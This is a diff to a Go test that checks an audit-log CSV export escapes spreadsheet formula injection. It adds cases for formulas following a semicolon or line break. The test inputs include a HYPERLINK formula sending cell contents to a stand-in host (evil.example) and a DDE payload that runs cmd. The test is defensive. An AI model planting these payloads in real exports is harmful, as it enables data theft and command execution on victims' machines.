@@ -9,6 +9,7 @@ import (
 	"iter"
 	"net/http"
 	"net/http/httptest"
+	"regexp"
 	"runtime"
 	"strings"
 	"testing"
@@ -78,7 +79,7 @@ func TestAuditExportFormulas(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t, nil)
 	texts := []string{`=HYPERLINK("http://evil.example/"&A1)`, "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1",
-		"\n=1", "  =1", "＝1", "\ufeff=1", "|x", "%x"}
+		"\n=1", "  =1", "＝1", "\ufeff=1", "|x", "%x", "x;=1", "x\r\n =1"}
 	for _, text := range texts {
 		e := &audit.Event{Type: audit.TypeCall, Outcome: "ok", Error: text,
 			Subject: audit.Subject{User: text, ClientName: text}, Target: audit.Target{Plugin: "p", Name: text}}
@@ -90,9 +91,10 @@ func TestAuditExportFormulas(t *testing.T) {
 	if len(rows) != len(texts) {
 		t.Fatalf("%d rows, want %d", len(rows), len(texts))
 	}
+	begins := regexp.MustCompile(`(^|[;\t\r\n])\s*[=＝]`) // a cell, also where a semicolon or a tab separates them
 	for i, row := range rows {
 		for _, column := range []string{"name", "user", "client", "error"} {
-			if !strings.HasPrefix(row[column], "'") {
+			if !strings.HasPrefix(row[column], "'") && i < len(texts)-2 || begins.MatchString(row[column]) {
 				t.Errorf("%s of %q: %q may be run", column, texts[i], row[column])
 			}
 		}
